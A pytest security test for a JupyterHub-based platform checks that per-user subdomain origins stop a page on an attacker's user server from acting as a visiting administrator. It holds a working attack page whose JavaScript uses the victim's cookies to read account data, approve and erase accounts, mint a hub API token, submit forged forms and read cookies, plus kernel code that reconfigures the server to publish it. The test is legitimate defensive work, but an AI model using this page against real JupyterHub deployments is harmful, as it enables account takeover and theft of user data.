"""Attack: a page served from a user's own server drives the platform as the administrator who opens it.

The attacker, Mallory, is an approved user. Her single-user server is hers to control completely, so it can serve
any page, with any script, to anyone who opens a link to it, without asking them to log in. That is done for real
here, from inside her server: code run in her own kernel writes a Jupyter server config into her home
(``~/.jupyter/jupyter_server_config.py``, which her server loads when it starts) that adds a folder of hers to the
server's static paths, and writes the attack page there; she restarts her server through the hub's API. The page is
then served by her real server, through the platform's proxy, at ``<her origin>/user/mallory/static/attack.html``,
to visitors who are not logged in to her server (static files need no login).

The victim is the administrator, logged in with headless Chromium to the hub and to the platform service's pages
(so the browser holds the hub's login cookie and the service's session cookie). The victim opens Mallory's link.
The page's script then tries, with the victim's cookies, to: read ``/services/platform/api/v1/me`` and the GDPR
export, approve a pending sign-up and erase the account through the API, mint a hub API token for the victim and
read the hub's user model, post the service's erase form and approve form (without the ``_xsrf`` value only the
service's own pages carry), read the hub's token page in a frame, and read cookies with ``document.cookie``. It
reports each result in its DOM, which the test reads.

With per-user origins (``subdomain_host``, hub at ``tep.localhost``, Mallory at ``mallory.tep.localhost``: the same
*site*, as ``hub.example.org`` and ``mallory.hub.example.org`` are in production, so SameSite cookies are still
sent) every attempt must fail, each in its exact way: reads and non-simple requests die in the browser's CORS check
("TypeError: Failed to fetch"); the simple form posts reach the service and are refused there (403: the form has
no valid ``_xsrf``), which the service's access log shows; the hub's frame cannot be read (cross-origin
``SecurityError``); no hub or service credential is visible to, or sent to, Mallory's origin; nothing changed: the
sign-up is still pending, the administrator still has the same tokens.

The control (``test_without_user_origins_the_same_page_drives_the_platform``) runs the same page on a platform
without per-user origins: there the page reads the administrator's account and mints an API token as the admin.
"""

from __future__ import annotations

import asyncio
import json
import re
import uuid

import pytest

from tests.harness import RunningPlatform
from tests.helpers import localhost_names
from tests.helpers.browser import login, wait_until

# Two platforms, two spawns and a server restart each; their teardown (stopping servers, the hub) ends the module.
pytestmark = pytest.mark.timeout(480)

ATTACKER = "mallory"
PENDING = "pendingpat"
PASSWORD = "a-long-password-for-signups-7"  # noqa: S105 (throw-away test platform)

ATTACK_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>cute cat pictures</title></head>
<body><pre id="results">running</pre>
<iframe name="sink" id="sink"></iframe><iframe id="hubframe"></iframe>
<form id="approve" method="POST" target="sink" action="__HUB__/services/platform/admin/signups/__PENDING__/approve">
</form>
<script>
const HUB = "__HUB__";
const results = {};
async function attempt(name, run) {
  try { results[name] = await run(); } catch (e) { results[name] = e.name + ": " + e.message; }
}
async function read(response) { return "answered " + response.status + ": " + (await response.text()).slice(0, 300); }
const json = {"Content-Type": "application/json"};
(async () => {
  await attempt("read_me", async () => read(await fetch(HUB + "/services/platform/api/v1/me", {credentials: "include"})));
  await attempt("export", async () => read(await fetch(HUB + "/services/platform/api/v1/me/export", {credentials: "include"})));
  await attempt("approve_api", async () => read(await fetch(HUB + "/services/platform/api/v1/accounts/__PENDING__/approve",
      {method: "POST", credentials: "include", headers: json, body: "{}"})));
  await attempt("erase_api", async () => read(await fetch(HUB + "/services/platform/api/v1/me",
      {method: "DELETE", credentials: "include", headers: json, body: JSON.stringify({confirm: "admin"})})));
  await attempt("hub_user", async () => read(await fetch(HUB + "/hub/api/user", {credentials: "include"})));
  await attempt("hub_token", async () => {
    // Same origin, the hub's own XSRF token is readable from its pages; cross-origin, the read fails first.
    const page = await (await fetch(HUB + "/hub/token", {credentials: "include"})).text();
    const xsrf = (page.match(/xsrf[^"']*["']([^"']+)["']/) || [])[1] || "";
    return read(await fetch(HUB + "/hub/api/users/admin/tokens", {method: "POST", credentials: "include",
        headers: {...json, "X-XSRFToken": xsrf}, body: JSON.stringify({note: "stolen"})}));
  });
  await attempt("erase_form", async () => {
    const r = await fetch(HUB + "/services/platform/account/erase", {method: "POST", mode: "no-cors",
        credentials: "include", body: new URLSearchParams({confirm: "admin"})});
    return "sent, answer " + r.type;
  });
  await attempt("approve_form", async () => {
    document.getElementById("approve").submit();
    await new Promise(done => document.getElementById("sink").onload = done);
    return "submitted";
  });
  await attempt("hub_frame", async () => {
    const frame = document.getElementById("hubframe");
    await new Promise(done => { frame.onload = done; frame.src = HUB + "/hub/token"; });
    return "read " + frame.contentWindow.document.body.innerText.slice(0, 100);
  });
  await attempt("cookies", async () => "cookies: " + document.cookie);
  document.getElementById("results").textContent = JSON.stringify(results);
  document.title = "attack finished";
})();
</script></body></html>
"""

SERVE_PAGE = """
import os, pathlib
home = pathlib.Path(os.path.expanduser("~"))
public = home / "public"
public.mkdir(exist_ok=True)
(public / "attack.html").write_text({page!r})
(home / ".jupyter").mkdir(exist_ok=True)
(home / ".jupyter" / "jupyter_server_config.py").write_text(
    "c.ServerApp.extra_static_paths = [%r]\\n" % str(public)
)
print("written")
"""


async def _execute(platform: RunningPlatform, user: str, token: str, kernel: str, code: str) -> str:
    """Run ``code`` in ``user``'s kernel over the server's websocket (through the proxy, to the user's host)."""
    from tornado.httpclient import HTTPRequest
    from tornado.websocket import websocket_connect

    origin = platform.user_origin(user)
    host = origin.split("://", 1)[1]
    request = HTTPRequest(
        f"ws://127.0.0.1:{platform.settings.public_port}/user/{user}/api/kernels/{kernel}/channels",
        headers={"Host": host, "Authorization": f"token {token}"},
    )
    connection = await websocket_connect(request)
    msg_id = uuid.uuid4().hex
    header = {
        "msg_id": msg_id,
        "msg_type": "execute_request",
        "username": user,
        "session": msg_id,
        "version": "5.3",
    }
    content = {
        "code": code,
        "silent": False,
        "store_history": False,
        "user_expressions": {},
        "allow_stdin": False,
    }
    message = {"header": header, "parent_header": {}, "metadata": {}, "content": content, "channel": "shell"}
    await connection.write_message(json.dumps(message))
    output = []
    replied = idle = False  # the reply (shell) and the output (iopub) arrive in either order
    try:
        while not (replied and idle):
            raw = await asyncio.wait_for(connection.read_message(), 60)
            assert raw is not None, "the kernel's websocket closed"
            reply = json.loads(raw)
            if reply.get("parent_header", {}).get("msg_id") != msg_id:
                continue
            if reply["msg_type"] == "stream":
                output.append(reply["content"]["text"])
            elif reply["msg_type"] == "error":
                raise AssertionError("\n".join(reply["content"]["traceback"]))
            elif reply["msg_type"] == "execute_reply":
                replied = True
            elif reply["msg_type"] == "status" and reply["content"]["execution_state"] == "idle":
                idle = True
        return "".join(output)
    finally:
        connection.close()


def run_in_users_kernel(platform: RunningPlatform, user: str, token: str, code: str) -> str:
    """Start a kernel in ``user``'s running server with the user's token, run ``code`` there, return its output."""
    r = platform.api("POST", f"/user/{user}/api/kernels", token, json={"name": "python3"})
    assert r.status_code == 201, (r.status_code, r.text)
    kernel = r.json()["id"]
    try:
        return asyncio.run(_execute(platform, user, token, kernel, code))
    finally:
        platform.api("DELETE", f"/user/{user}/api/kernels/{kernel}", token)


def serve_attack_page(platform: RunningPlatform, token: str) -> str:
    """Mallory, from inside her server, publishes the attack page; returns its URL as she would send it."""
    page = ATTACK_PAGE.replace("__HUB__", platform.url).replace("__PENDING__", PENDING)
    assert run_in_users_kernel(platform, ATTACKER, token, SERVE_PAGE.format(page=page)) == "written\n"
    platform.stop_server(ATTACKER)
    platform.spawn(ATTACKER, token, timeout=180)
    url = platform.user_url(ATTACKER) + "static/attack.html"
    served = platform.api("GET", f"/user/{ATTACKER}/static/attack.html")  # no login, no token
    assert served.status_code == 200 and "cute cat pictures" in served.text, (
        served.status_code,
        served.text[:200],
    )
    return url


def sign_up_pending(platform: RunningPlatform) -> None:
    """A stranger's sign-up that awaits the administrator's approval."""
    with localhost_names.localhost_names_client(timeout=60) as client:
        page = client.get(f"{platform.url}/services/platform/signup")
        versions = dict(re.findall(r'name="(terms_version|privacy_version)" value="([^"]+)"', page.text))
        data = {
            "username": PENDING,
            "password": PASSWORD,
            "password_confirm": PASSWORD,
            "full_name": "Pat Pending",
            "email": f"{PENDING}@example.org",
            "organisation": "Polar Institute",
            "organisation_location": "Tromsø, Norway",
            "phone": "",
            "accept_terms": "yes",
            "accept_privacy": "yes",
            **versions,
        }
        r = client.post(f"{platform.url}/services/platform/signup", data=data)
        assert r.status_code == 201, (r.status_code, r.text[:300])
    assert pending_names(platform) == [PENDING]


def pending_names(platform: RunningPlatform) -> list[str]:
    r = platform.api("GET", "/services/platform/api/v1/signups", platform.admin_token)
    assert r.status_code == 200, r.text
    return [account["name"] for account in r.json()]


def admin_token_notes(platform: RunningPlatform) -> list[str]:
    r = platform.api("GET", "/hub/api/users/admin/tokens", platform.admin_token)
    assert r.status_code == 200, r.text
    return sorted(token["note"] or "" for token in r.json()["api_tokens"])


def victim_opens(browser, platform: RunningPlatform, url: str):
    """The administrator logs in to the hub and the service's pages, then opens Mallory's link; returns the page's
    results, the browser, and the administrator's API tokens just before the link was opened."""
    from selenium.webdriver.common.by import By

    driver = browser()
    login(driver, platform, "admin", platform.env["POLARTEP_ADMIN_PASSWORD"])
    driver.get(f"{platform.url}/services/platform/admin/signups")  # OAuth login to the service, then its page
    wait_until(
        driver, lambda d: d.current_url.endswith("/services/platform/admin/signups"), 60, "service login"
    )
    assert PENDING in driver.page_source
    tokens = admin_token_notes(platform)  # the service's login added one (the service's OAuth token)
    driver.get(url)
    wait_until(driver, lambda d: d.title == "attack finished", 60, "the attack page to finish")
    return json.loads(driver.find_element(By.ID, "results").text), driver, tokens


def service_access_log(platform: RunningPlatform, path: str) -> list[str]:
    """The status codes the platform service's access log recorded for POSTs to ``path``."""
    pattern = re.compile(rf'"POST {re.escape(path)} HTTP/1\.1" (\d{{3}})')
    return pattern.findall(platform.hub_log.read_text(errors="replace"))


@pytest.fixture(scope="module")
def isolated(tmp_path_factory):
    """A platform with per-user origins: the hub at tep.localhost, users at <name>.tep.localhost."""
    root = tmp_path_factory.mktemp("origins-attack")
    with RunningPlatform(root, subdomains=True, public_host="tep.localhost").running(timeout=240) as platform:
        yield platform


def test_a_page_on_a_users_origin_cannot_drive_the_platform_as_its_visitor(isolated, browser):
    platform = isolated
    token = platform.create_user(ATTACKER)
    platform.spawn(ATTACKER, token, timeout=180)
    url = serve_attack_page(platform, token)
    port = platform.settings.public_port
    assert url == f"http://mallory.tep.localhost:{port}/user/mallory/static/attack.html"
    sign_up_pending(platform)

    results, driver, tokens_before = victim_opens(browser, platform, url)

    blocked = (
        "TypeError: Failed to fetch"  # the browser's CORS check: the service and hub allow no other origin
    )
    assert results["read_me"] == blocked
    assert results["export"] == blocked
    assert results["approve_api"] == blocked
    assert results["erase_api"] == blocked
    assert results["hub_user"] == blocked
    assert results["hub_token"] == blocked  # reading the hub's token page already fails
    # Simple form posts are sent (a browser cannot be stopped from sending them) and refused by the service: no
    # valid _xsrf, which only the service's own pages carry.
    assert results["erase_form"] == "sent, answer opaque"
    assert service_access_log(platform, "/services/platform/account/erase") == ["403"]
    assert results["approve_form"] == "submitted"
    assert service_access_log(platform, f"/services/platform/admin/signups/{PENDING}/approve") == ["403"]
    assert results["hub_frame"].startswith(
        "SecurityError: Failed to read a named property 'document' from 'Window'"
    )
    assert results["cookies"] == "cookies: "

    # What the browser holds for Mallory's origin, i.e. what it would send her server: no hub login cookie, no
    # service session; only JupyterHub's session id (set for the parent domain by JupyterHub, not a credential).
    sent_to_mallory = driver.execute_cdp_cmd("Network.getCookies", {"urls": [url]})["cookies"]
    assert sorted(cookie["name"] for cookie in sent_to_mallory) == ["jupyterhub-session-id"]
    hub_cookies = driver.execute_cdp_cmd("Network.getCookies", {"urls": [f"{platform.url}/hub/"]})["cookies"]
    assert "jupyterhub-hub-login" in {cookie["name"] for cookie in hub_cookies}  # the victim was logged in

    # Nothing changed.
    assert pending_names(platform) == [PENDING]
    assert admin_token_notes(platform) == tokens_before
    me = platform.api("GET", "/services/platform/api/v1/me", platform.admin_token)
    assert me.status_code == 200 and me.json()["name"] == "admin"


@pytest.fixture(scope="module")
def shared_origin(tmp_path_factory):
    """The control: the same platform without per-user origins (everything on http://127.0.0.1:<port>)."""
    with RunningPlatform(tmp_path_factory.mktemp("origins-control")).running(timeout=240) as platform:
        yield platform


def test_without_user_origins_the_same_page_drives_the_platform(shared_origin, browser):
    platform = shared_origin
    token = platform.create_user(ATTACKER)
    platform.spawn(ATTACKER, token, timeout=180)
    url = serve_attack_page(platform, token)
    assert url == f"{platform.url}/user/mallory/static/attack.html"
    sign_up_pending(platform)

    results, _, tokens_before = victim_opens(browser, platform, url)

    assert results["read_me"].startswith("answered 200: {"), results["read_me"]
    assert '"name":"admin"' in results["read_me"], results["read_me"]
    assert results["export"].startswith("answered 200: "), results["export"]
    assert results["hub_token"].startswith('answered 201: {"'), results["hub_token"]
    assert admin_token_notes(platform) == sorted([*tokens_before, "stolen"])
